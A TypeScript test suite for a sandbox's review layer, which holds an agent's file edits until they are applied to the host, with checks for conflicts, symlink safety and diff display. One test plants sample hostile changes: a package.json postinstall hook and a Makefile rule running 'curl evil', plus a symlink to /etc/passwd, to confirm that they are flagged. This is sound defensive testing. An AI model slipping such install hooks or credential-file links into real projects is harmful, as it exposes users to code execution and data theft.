/** Work under review: what the agent sees, what the host keeps, and the way from one to the other. */
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { applyChanges, diffChanges, dropChanges, listChanges, reviewLayers } from '../../src/view/review.ts'
import { cannotRun, inView, makeWorld, own, user } from './harness.ts'

const skip = cannotRun
const asUser = { uid: user.uid, gid: user.gid }

function git(dir: string, ...args: string[]): string {
  const done = spawnSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', '-C', dir, ...args], {
    ...asUser,
    encoding: 'utf8',
    env: { PATH: process.env.PATH, HOME: dir },
  })
  assert.equal(done.status, 0, done.stderr)
  return done.stdout
}

test('git works in a reviewed project, and the host has none of it before apply, all of it after', {
  skip,
}, async (t) => {
  const world = makeWorld([
    {
      access: 'review',
      protect: ['**/.git/hooks/**', '**/.git/config'],
      files: { 'a.txt': 'one\n', 'src/b.txt': 'two\n', 'src/old.txt': 'old\n' },
    },
  ])
  t.after(() => world.remove())
  const root = world.root(0)
  git(root, 'init', '-q')
  git(root, 'add', '.')
  git(root, 'commit', '-qm', 'first')
  const before = git(root, 'log', '--oneline')
  const result = await inView(
    world,
    `
os.chdir('0')
def git(*args): return subprocess.run(['git', '-c', 'user.name=t', '-c', 'user.email=t@t', *args], capture_output=True, text=True)
result['clean'] = git('status', '--short').stdout
with open('a.txt', 'a') as f: f.write('more\\n')
put('new.txt', 'new\\n'); os.unlink('src/old.txt'); os.rename('src/b.txt', 'src/c.txt'); os.mkdir('made'); put('made/x', 'x')
result['status'] = git('status', '--short').stdout
git('add', '-A')
result['commit'] = git('commit', '-qm', 'second').returncode
result['branch'] = [git('checkout', '-qb', 'topic').returncode, git('checkout', '-q', '-').returncode, git('gc', '-q').returncode]
result['fsck'] = git('fsck').returncode
result['after'] = git('status', '--short').stdout
result['log'] = git('log', '--format=%s').stdout.split()
result['tree'] = sorted(os.listdir('.')), sorted(os.listdir('src'))
`,
  )
  assert.equal(result.clean, '')
  assert.equal(result.status, ' M a.txt\n D src/b.txt\n D src/old.txt\n?? made/\n?? new.txt\n?? src/c.txt\n')
  assert.deepEqual(
    [result.commit, result.branch, result.fsck, result.after, result.log],
    [0, [0, 0, 0], 0, '', ['second', 'first']],
  )
  assert.deepEqual(result.tree, [['.git', 'a.txt', 'made', 'new.txt', 'src'], ['c.txt']])

  assert.equal(readFileSync(join(root, 'a.txt'), 'utf8'), 'one\n')
  assert.equal(git(root, 'log', '--oneline'), before)
  assert.equal(git(root, 'status', '--short'), '')

  const applied = await applyChanges(reviewLayers(world.spec))
  assert.deepEqual(
    applied.filter(({ state }) => state !== 'applied'),
    [],
  )
  own(root)
  assert.equal(readFileSync(join(root, 'a.txt'), 'utf8'), 'one\nmore\n')
  assert.deepEqual(
    [existsSync(join(root, 'src/old.txt')), readFileSync(join(root, 'src/c.txt'), 'utf8')],
    [false, 'two\n'],
  )
  assert.equal(git(root, 'log', '--format=%s'), 'second\nfirst\n')
  assert.equal(git(root, 'status', '--short'), '')
  assert.deepEqual(await listChanges(reviewLayers(world.spec)), [])
})

test('apply is three-way: what changed outside is a conflict and stays', { skip }, async (t) => {
  const files = {
    mine: 'base',
    theirs: 'base',
    both: 'base',
    same: 'base',
    gone: 'base',
    deleted: 'base',
    'dir/inner': 'base',
  }
  const world = makeWorld([{ access: 'review', files }])
  t.after(() => world.remove())
  await inView(
    world,
    `
os.chdir('0')
for name in ('mine', 'both', 'same', 'gone'): put(name, 'agent')
put('appears', 'agent'); put('fresh', 'agent'); os.unlink('deleted'); os.chmod('fresh', 0o755)
os.unlink('dir/inner'); os.rmdir('dir'); put('dir', 'now a file')
`,
  )
  const root = world.root(0)
  const host = (name: string, text: string) => writeFileSync(join(root, name), text)
  host('theirs', 'host')
  host('both', 'host')
  host('same', 'agent')
  host('deleted', 'host')
  host('appears', 'host')
  rmSync(join(root, 'gone'))
  const layers = reviewLayers(world.spec)
  const conflicts = (await listChanges(layers)).filter(({ conflict }) => conflict).map(({ path }) => path)
  assert.deepEqual(conflicts.sort(), ['appears', 'both', 'deleted', 'gone'])
  const results = Object.fromEntries((await applyChanges(layers)).map(({ path, state }) => [path, state]))
  assert.deepEqual(results, {
    mine: 'applied',
    both: 'conflict',
    same: 'applied',
    gone: 'conflict',
    appears: 'conflict',
    fresh: 'applied',
    deleted: 'conflict',
    'dir/inner': 'applied',
    dir: 'applied',
  })
  const read = (name: string) => readFileSync(join(root, name), 'utf8')
  assert.deepEqual(
    [
      read('mine'),
      read('theirs'),
      read('both'),
      read('deleted'),
      read('appears'),
      read('fresh'),
      read('dir'),
    ],
    ['agent', 'host', 'host', 'host', 'host', 'agent', 'now a file'],
  )
  assert.ok(!existsSync(join(root, 'gone')))
  assert.equal(statSync(join(root, 'fresh')).mode & 0o777, 0o755)
  assert.deepEqual(
    (await listChanges(layers)).map(({ path }) => path),
    ['appears', 'both', 'deleted', 'gone'],
  )
})

test("F-04 apply never follows a link, neither the agent's nor the host's", { skip }, async (t) => {
  const world = makeWorld([{ access: 'review', files: { 'd/file': 'base', 'e/file': 'base' } }])
  t.after(() => world.remove())
  const outside = join(world.dir, 'outside')
  mkdirSync(outside)
  writeFileSync(join(outside, 'file'), 'base')
  own(world.dir)
  await inView(
    world,
    `
os.chdir('0')
put('d/file', 'agent'); put('d/new', 'agent')
os.symlink(${JSON.stringify(outside)}, 'link')
os.unlink('e/file'); os.rmdir('e'); os.symlink(${JSON.stringify(outside)}, 'e')
`,
  )
  // The host's directory becomes a link while the change waits.
  rmSync(join(world.root(0), 'd'), { recursive: true })
  symlinkSync(outside, join(world.root(0), 'd'))
  const states = Object.fromEntries(
    (await applyChanges(reviewLayers(world.spec))).map(({ path, state }) => [path, state]),
  )
  assert.deepEqual(
    [states['d/file'], states['d/new'], states.link, states.e],
    ['conflict', 'conflict', 'applied', 'applied'],
  )
  assert.equal(readFileSync(join(outside, 'file'), 'utf8'), 'base')
  assert.ok(!existsSync(join(outside, 'new')))
  assert.ok(lstatSync(join(world.root(0), 'link')).isSymbolicLink(), 'a link is applied as a link')
})

test('P-13 executable configuration comes first, and the diff is safe to show', { skip }, async (t) => {
  const world = makeWorld([
    { access: 'review', files: { 'a.txt': 'one\n', 'package.json': '{}\n', 'sub/Makefile': 'all:\n' } },
  ])
  t.after(() => world.remove())
  await inView(
    world,
    `
os.chdir('0')
put('a.txt', 'two\\n'); put('package.json', '{"scripts":{"postinstall":"curl evil"}}\\n'); put('sub/Makefile', 'all:\\n\\tcurl evil\\n')
put('aa\\u202egnp.txt', 'bidi\\n'); put('bin', 'a\\0b'); put('esc', 'x\\x1b[2Jy\\n'); os.symlink('/etc/passwd', 'zlink')
`,
  )
  const layers = reviewLayers(world.spec)
  const changes = await listChanges(layers)
  assert.deepEqual(
    changes.slice(0, 2).map(({ path, executableConfig }) => [path, executableConfig]),
    [
      ['package.json', true],
      ['sub/Makefile', true],
    ],
  )
  assert.ok(changes.slice(2).every(({ executableConfig }) => !executableConfig))
  const diff = await diffChanges(layers, await listChanges(layers))
  assert.match(diff, /-one\n\+two\n/)
  assert.match(diff, /\+all:|\+\tcurl evil/)
  assert.match(diff, /binary content, 3 bytes/)
  assert.match(diff, /\+link to \/etc\/passwd/)
  assert.ok(!diff.includes('\u202e') && !diff.includes('\x1b'))
  const dropped = await dropChanges(layers, [{ root: world.root(0), path: 'package.json' }])
  assert.deepEqual(dropped, [{ root: world.root(0), path: 'package.json' }])
  assert.equal((await listChanges(layers)).length, changes.length - 1)
  await dropChanges(layers)
  assert.deepEqual(await listChanges(layers), [])
  assert.equal(readFileSync(join(world.root(0), 'package.json'), 'utf8'), '{}\n')
})

test('review globs in a writable root: a save by rename still lands under review', { skip }, async (t) => {
  const world = makeWorld([
    {
      access: 'write',
      review: ['**/package.json'],
      files: { 'package.json': '{}', 'x/package.json': '{}', 'x/code': '1' },
    },
  ])
  t.after(() => world.remove())
  const result = await inView(
    world,
    `
os.chdir('0')
put('package.json.123', '{"a":1}'); os.rename('package.json.123', 'package.json')
put('code', 'direct')
result['seen'] = get('package.json'), sorted(os.listdir('.'))
result['moved'] = attempt(os.rename, 'x', 'y')
result['backup'] = attempt(os.rename, 'x/package.json', 'x/package.json.bak'), get('x/package.json.bak'), sorted(os.listdir('x'))
`,
  )
  assert.deepEqual(result, {
    seen: ['{"a":1}', ['code', 'package.json', 'x']],
    moved: 'EXDEV',
    backup: ['ok', '{}', ['code', 'package.json.bak']],
  })
  assert.deepEqual(
    [
      readFileSync(join(world.root(0), 'package.json'), 'utf8'),
      readFileSync(join(world.root(0), 'code'), 'utf8'),
    ],
    ['{}', 'direct'],
  )
  assert.deepEqual(
    (await listChanges(reviewLayers(world.spec))).map(({ path, kind }) => [path, kind]),
    [
      ['package.json', 'modified'],
      ['x/package.json', 'deleted'],
    ],
  )
})

test('changes survive a second session on the same layer', { skip }, async (t) => {
  const world = makeWorld([{ access: 'review', files: { a: 'a', b: 'b', 'd/x': 'x' } }])
  t.after(() => world.remove())
  await inView(
    world,
    `os.chdir('0'); put('a', 'changed'); os.unlink('b'); os.unlink('d/x'); os.rmdir('d'); os.mkdir('d'); put('d/y', 'y')`,
  )
  const result = await inView(
    world,
    `os.chdir('0'); result['seen'] = [sorted(os.listdir('.')), get('a'), os.listdir('d'), attempt(os.stat, 'b')]`,
  )
  assert.deepEqual(result.seen, [['a', 'd'], 'changed', ['y'], 'ENOENT'])
})

test('a reader that had the file open before its first change sees the change', { skip }, async (t) => {
  const world = makeWorld([{ access: 'review', files: { a: 'before' } }])
  t.after(() => world.remove())
  const result = await inView(
    world,
    `
os.chdir('0')
early = os.open('a', os.O_RDONLY)
result['ino'] = os.fstat(early).st_ino
put('a', 'after!')
result['early'] = os.pread(early, 100, 0).decode()
result['ino'] = result['ino'] == os.stat('a').st_ino
log = open('log', 'w'); os.unlink('log'); log.write('kept'); log.flush()
result['unlinked'] = os.fstat(log.fileno()).st_size
`,
  )
  assert.deepEqual(result, { ino: true, early: 'after!', unlinked: 4 })
})
